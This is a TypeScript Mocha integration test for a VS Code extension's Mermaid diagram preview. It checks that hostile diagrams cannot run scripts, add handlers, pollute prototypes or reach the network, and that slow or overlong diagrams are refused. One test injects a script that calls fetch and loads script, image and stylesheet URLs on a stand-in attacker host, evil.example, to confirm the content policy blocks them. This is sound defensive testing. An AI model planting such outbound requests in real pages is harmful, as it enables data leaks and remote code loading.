/**
 * Diagrams that try to get out: test/vscode/workspace/hostile/. Each sets `pwned` where it succeeds, or asks
 * evil.example for something.
 */
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import * as vscode from 'vscode';
import { click, evaluate, hasScreen, print, screenshot, takeRequests } from './bridge.ts';
import { activeExtension, closeEditors, eventually, openBeside, workspaceFolder } from './helpers.ts';

/** What a diagram must not reach, seen from the page it is drawn in. */
const SPOILS = `({
  pwned: globalThis.pwned ?? parent.pwned ?? null,
  polluted: ({}).polluted ?? null,
  scripts: document.querySelectorAll('.picture script, .picture iframe, .picture object, .picture embed').length,
  handlers: [...document.querySelectorAll('.picture *')].flatMap((one) =>
    [...one.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => name)),
  addresses: [...document.querySelectorAll('.picture *')].flatMap((one) =>
    [...one.attributes]
      .filter(({ name, value }) => /^(?:xlink:)?(?:href|src)$/.test(name) && !/^(?:#|data:image\\/)/.test(value))
      .map(({ value }) => value)),
  styles: [...document.querySelectorAll('.picture style')].filter((one) => one.textContent.includes('evil.example')).length,
})`;

/** Shows text that nobody has drawn yet, and resolves when its card is done with it. */
async function settle(line: string): Promise<void> {
  await eventually(
    async () =>
      (await evaluate<boolean>(
        '#stage',
        `document.title === ${JSON.stringify(line)} && document.querySelector('.card:not(.drawing)') !== null &&
         (document.querySelector('.picture svg, .problem:not([hidden])') !== null)`,
      ))
        ? true
        : undefined,
    `a picture or an error for ${line}`,
    20_000,
  );
}

describe('hostile diagrams in the preview', () => {
  before(async function (this: Mocha.Context) {
    this.timeout(60_000);
    await activeExtension();
  });
  after(closeEditors);

  it('run nothing and ask the network for nothing', async function (this: Mocha.Context) {
    if (!hasScreen) return;
    this.timeout(180_000);
    await openBeside('docs/diagrams/five.md');
    await vscode.commands.executeCommand('waypost.openDiagramPreview');
    await settle('five.md');
    await leftThePage();
    const names = readdirSync(join(workspaceFolder().uri.fsPath, 'hostile'));
    assert.ok(names.length >= 19, `${names.length} diagrams were found`);
    let drawn = 0;
    for (const name of names) {
      await openBeside(`hostile/${name}`);
      await settle(name);
      if (await evaluate<boolean>('#stage', `document.querySelector('.picture svg') !== null`)) {
        drawn++;
        // Every node and every link, as a mouse would.
        await evaluate(
          '#stage',
          `document.querySelectorAll('.picture a, .picture .node, .picture .clickable').forEach((one) => {
            for (const type of ['pointerdown', 'pointerup', 'click'])
              one.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
          })`,
        );
      }
      const spoils = await evaluate<object>('#stage', SPOILS);
      assert.deepEqual(
        spoils,
        { pwned: null, polluted: null, scripts: 0, handlers: [], addresses: [], styles: 0 },
        name,
      );
    }
    assert.deepEqual(await leftThePage(), []);
    // Of a diagram that is refused nothing is learnt.
    assert.ok(drawn >= names.length - 4, `${drawn} of ${names.length} are drawn`);
    await print(`      ${drawn} of ${names.length} hostile diagrams are drawn, the others refused`);
    await screenshot('preview-hostile');
  });

  it('is held by its policy even where a script runs in it', async () => {
    if (!hasScreen) return;
    await leftThePage();
    const tried = await evaluate<Record<string, string>>(
      '#stage',
      `(async () => {
        const attempt = async (work) => { try { await work(); return 'done'; } catch { return 'refused'; } };
        const loaded = (node, attribute) => new Promise((resolve, reject) => {
          node.onload = resolve; node.onerror = reject; node[attribute] = 'https://evil.example/' + attribute;
          document.body.append(node); setTimeout(reject, 2000);
        });
        return {
          fetch: await attempt(() => fetch('https://evil.example/fetch')),
          image: await attempt(() => loaded(new Image(), 'src')),
          script: await attempt(() => loaded(document.createElement('script'), 'src')),
          stylesheet: await attempt(() => loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href')),
          inline: await attempt(() => { const script = document.createElement('script'); script.text = 'globalThis.inlined = 1';
            document.body.append(script); if (globalThis.inlined !== 1) throw new Error(); }),
        };
      })()`,
    );
    assert.deepEqual(tried, {
      fetch: 'refused',
      image: 'refused',
      script: 'refused',
      stylesheet: 'refused',
      inline: 'refused',
    });
    assert.deepEqual(await leftThePage(), []);
  });

  /** Undefined also while one page is being replaced by the next. */
  const textIn = async (selector: string): Promise<string | undefined> =>
    evaluate<string>('#stage', `document.querySelector('${selector}')?.textContent ?? ''`).catch(() => undefined);

  it('end at a deadline, and the picture before stays', async () => {
    if (!hasScreen) return;
    const document = await vscode.workspace.openTextDocument({
      language: 'mermaid',
      content: 'flowchart LR\n  before --> after\n',
    });
    const editor = await vscode.window.showTextDocument(document, vscode.ViewColumn.One);
    await eventually(
      async () => ((await textIn('.picture'))?.includes('before') === true ? true : undefined),
      'the first picture',
    );
    // A page that draws for ever: here it shares its thread with the workbench, which a real one would hold up.
    await evaluate('#stage', '(globalThis.setTimeout = () => 0)');
    const start = Date.now();
    await editor.edit((edit) =>
      edit.replace(new vscode.Range(0, 0, document.lineCount, 0), 'flowchart LR\n  never --> drawn\n'),
    );
    await eventually(
      async () => ((await textIn('.problem'))?.includes('given up') === true ? true : undefined),
      'the diagram to be given up',
      30_000,
    );
    await print(`      given up after ${((Date.now() - start) / 1000).toFixed(1)} s`);
    await screenshot('preview-given-up');
    await eventually(
      async () => ((await textIn('.picture'))?.includes('before') === true ? true : undefined),
      'the last good picture in the new page',
    );
    await click('#toolbar button[title^="Fit"]');
  });

  it('are refused where they are longer than Mermaid takes', async () => {
    if (!hasScreen) return;
    const document = await vscode.workspace.openTextDocument({
      language: 'mermaid',
      content: `flowchart LR\n  a --> b\n${'%% x\n'.repeat(12_000)}`,
    });
    await vscode.window.showTextDocument(document, vscode.ViewColumn.One);
    await eventually(
      async () =>
        (await evaluate<string>('#stage', `document.querySelector('.problem')?.textContent ?? ''`)).includes('Too long')
          ? true
          : undefined,
      'the refusal',
    );
  });
});

/** What the page's policy has let through since this was asked last. */
const leftThePage = async (): Promise<readonly string[]> =>
  (await takeRequests()).filter(({ address, refused }) => !refused && !isOwn(address)).map(({ address }) => address);

/** Addresses of this machine, and those that mean the page itself. */
const isOwn = (address: string): boolean => {
  const { protocol, hostname } = new URL(address);
  return (
    ['data:', 'blob:'].includes(protocol) ||
    hostname === 'localhost' ||
    hostname === '127.0.0.1' ||
    hostname.endsWith('.localhost') ||
    hostname.endsWith('.vscode-resource.vscode-cdn.net')
  );
};
